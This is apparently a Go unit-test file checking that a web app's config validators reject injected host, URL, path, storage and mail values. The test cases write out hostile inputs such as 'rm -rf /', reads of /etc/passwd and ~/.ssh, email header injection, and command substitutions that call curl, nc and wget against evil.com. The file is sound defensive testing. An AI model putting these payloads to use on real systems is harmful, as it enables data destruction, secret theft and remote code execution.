package config

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestValidateServerConfig_Security tests server configuration security validation
func TestValidateServerConfig_Security(t *testing.T) {
	tests := []struct {
		name        string
		config      ServerConfig
		expectError bool
		errorType   string
	}{
		{
			name: "valid server config",
			config: ServerConfig{
				Port:        8080,
				Host:        "localhost",
				Environment: EnvDevelopment,
			},
			expectError: false,
		},
		{
			name: "valid port range minimum",
			config: ServerConfig{
				Port: 1,
				Host: "127.0.0.1",
			},
			expectError: false,
		},
		{
			name: "valid port range maximum",
			config: ServerConfig{
				Port: 65535,
				Host: "0.0.0.0",
			},
			expectError: false,
		},
		{
			name: "system assigned port",
			config: ServerConfig{
				Port: 0, // System assigned
				Host: "localhost",
			},
			expectError: false,
		},
		{
			name: "invalid negative port",
			config: ServerConfig{
				Port: -1,
				Host: "localhost",
			},
			expectError: true,
			errorType:   "not in valid range",
		},
		{
			name: "invalid port too high",
			config: ServerConfig{
				Port: 65536,
				Host: "localhost",
			},
			expectError: true,
			errorType:   "not in valid range",
		},
		{
			name: "command injection in host",
			config: ServerConfig{
				Port: 8080,
				Host: "localhost; rm -rf /",
			},
			expectError: true,
			errorType:   "dangerous character",
		},
		{
			name: "shell metacharacter in host",
			config: ServerConfig{
				Port: 8080,
				Host: "localhost | cat /etc/passwd",
			},
			expectError: true,
			errorType:   "dangerous character",
		},
		{
			name: "backtick injection in host",
			config: ServerConfig{
				Port: 8080,
				Host: "localhost`whoami`",
			},
			expectError: true,
			errorType:   "dangerous character",
		},
		{
			name: "dollar injection in host",
			config: ServerConfig{
				Port: 8080,
				Host: "localhost$(malicious)",
			},
			expectError: true,
			errorType:   "dangerous character",
		},
		{
			name: "base url with javascript scheme",
			config: ServerConfig{
				Port:    8080,
				Host:    "localhost",
				BaseURL: "javascript:alert(1)",
			},
			expectError: true,
			errorType:   "base_url",
		},
		{
			name: "base url with command injection",
			config: ServerConfig{
				Port:    8080,
				Host:    "localhost",
				BaseURL: "http://localhost:8080;open /Applications/Calculator.app",
			},
			expectError: true,
			errorType:   "dangerous character",
		},
		{
			name: "allowed origins",
			config: ServerConfig{
				Port:           8080,
				Host:           "localhost",
				BaseURL:        "https://heartland-insurance.example",
				AllowedOrigins: []string{"https://heartland-insurance.example", "http://localhost:3000"},
			},
		},
		{
			name: "allowed origin with path",
			config: ServerConfig{
				Port:           8080,
				Host:           "localhost",
				AllowedOrigins: []string{"https://heartland-insurance.example/quote"},
			},
			expectError: true,
			errorType:   "allowed_origins",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.config.Environment == "" {
				tt.config.Environment = EnvProduction
			}
			err := validateServerConfig(&tt.config)

			if tt.expectError {
				assert.Error(t, err, "Expected error for test case: %s", tt.name)
				if tt.errorType != "" {
					assert.Contains(t, strings.ToLower(err.Error()), tt.errorType,
						"Error should contain expected type: %s", tt.errorType)
				}
			} else {
				assert.NoError(t, err, "Expected no error for test case: %s", tt.name)
			}
		})
	}
}

// TestValidateStorageConfig_Security tests storage backend validation
func TestValidateStorageConfig_Security(t *testing.T) {
	tests := []struct {
		name        string
		config      StorageConfig
		expectError bool
		errorType   string
	}{
		{
			name:   "memory needs no path",
			config: StorageConfig{Backend: StorageMemory},
		},
		{
			name:   "sqlite file",
			config: StorageConfig{Backend: StorageSQLite, Path: "data/formstate.db"},
		},
		{
			name:        "unknown backend",
			config:      StorageConfig{Backend: "redis", Path: "x"},
			expectError: true,
			errorType:   "unknown storage backend",
		},
		{
			name:        "file backend escaping the working directory",
			config:      StorageConfig{Backend: StorageFile, Path: "../../tmp/drafts"},
			expectError: true,
			errorType:   "contains traversal",
		},
		{
			name:        "sqlite path with shell metacharacters",
			config:      StorageConfig{Backend: StorageSQLite, Path: "forms.db; rm -rf /"},
			expectError: true,
			errorType:   "dangerous character",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validateStorageConfig(&tt.config)

			if tt.expectError {
				assert.Error(t, err, "Expected error for test case: %s", tt.name)
				assert.Contains(t, strings.ToLower(err.Error()), tt.errorType)
			} else {
				assert.NoError(t, err, "Expected no error for test case: %s", tt.name)
			}
		})
	}
}

// TestValidateMailConfig_Security tests that header injection through the
// configured addresses is refused
func TestValidateMailConfig_Security(t *testing.T) {
	valid := MailConfig{Driver: "log", From: "web@example.com", To: "leads@example.com"}

	tests := []struct {
		name        string
		mutate      func(c *MailConfig)
		expectError bool
	}{
		{name: "log driver", mutate: func(c *MailConfig) {}},
		{name: "smtp with host", mutate: func(c *MailConfig) { c.Driver = "smtp"; c.Host = "smtp.example.com" }},
		{name: "smtp without host", mutate: func(c *MailConfig) { c.Driver = "smtp" }, expectError: true},
		{name: "unknown driver", mutate: func(c *MailConfig) { c.Driver = "carrier-pigeon" }, expectError: true},
		{name: "header injection in to", mutate: func(c *MailConfig) { c.To = "a@example.com\r\nBcc: x@evil.com" }, expectError: true},
		{name: "garbage from", mutate: func(c *MailConfig) { c.From = "not an address" }, expectError: true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := valid
			tt.mutate(&cfg)

			err := validateMailConfig(&cfg)
			if tt.expectError {
				assert.Error(t, err)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

// TestValidatePath_Security tests path validation security
func TestValidatePath_Security(t *testing.T) {
	tests := []struct {
		name        string
		path        string
		expectError bool
		errorType   string
	}{
		{
			name:        "valid relative path",
			path:        "./content",
			expectError: false,
		},
		{
			name:        "valid nested path",
			path:        "data/formstate/sessions",
			expectError: false,
		},
		{
			name:        "empty path",
			path:        "",
			expectError: true,
			errorType:   "empty path",
		},
		{
			name:        "path traversal attempt",
			path:        "../../../etc/passwd",
			expectError: true,
			errorType:   "contains traversal",
		},
		{
			name:        "command injection in path",
			path:        "./content; rm -rf /",
			expectError: true,
			errorType:   "dangerous character",
		},
		{
			name:        "pipe in path",
			path:        "./content | cat /etc/passwd",
			expectError: true,
			errorType:   "dangerous character",
		},
		{
			name:        "backtick in path",
			path:        "./content`whoami`",
			expectError: true,
			errorType:   "dangerous character",
		},
		{
			name:        "dollar in path",
			path:        "./content$(malicious)",
			expectError: true,
			errorType:   "dangerous character",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validatePath(tt.path)

			if tt.expectError {
				assert.Error(t, err, "Expected error for test case: %s", tt.name)
				if tt.errorType != "" {
					assert.Contains(t, strings.ToLower(err.Error()), tt.errorType,
						"Error should contain expected type: %s", tt.errorType)
				}
			} else {
				assert.NoError(t, err, "Expected no error for test case: %s", tt.name)
			}
		})
	}
}

// TestSecurityRegression_ConfigSecurity verifies configuration security
func TestSecurityRegression_ConfigSecurity(t *testing.T) {
	t.Run("prevent config-based command injection", func(t *testing.T) {
		maliciousConfigs := []ServerConfig{
			{Port: 8080, Host: "localhost; curl http://evil.com", Environment: EnvProduction},
			{Port: 8080, Host: "localhost && rm -rf /", Environment: EnvProduction},
			{Port: 8080, Host: "localhost | nc evil.com 4444", Environment: EnvProduction},
			{Port: 8080, Host: "localhost`wget http://evil.com/malware`", Environment: EnvProduction},
			{Port: 8080, Host: "localhost$(curl http://evil.com/cmd)", Environment: EnvProduction},
		}

		for i, config := range maliciousConfigs {
			err := validateServerConfig(&config)
			assert.Error(t, err, "Config injection should be prevented: case %d", i)
		}
	})

	t.Run("prevent path traversal in content dir", func(t *testing.T) {
		maliciousPaths := []string{
			"../../../etc",
			"..\\..\\..\\windows\\system32",
			"../../../../usr/bin",
			"../../../root/.ssh",
		}

		for _, path := range maliciousPaths {
			config := Default()
			config.Content.Dir = path
			err := validateConfig(config)
			assert.Error(t, err, "Path traversal should be prevented: %s", path)
		}
	})
}
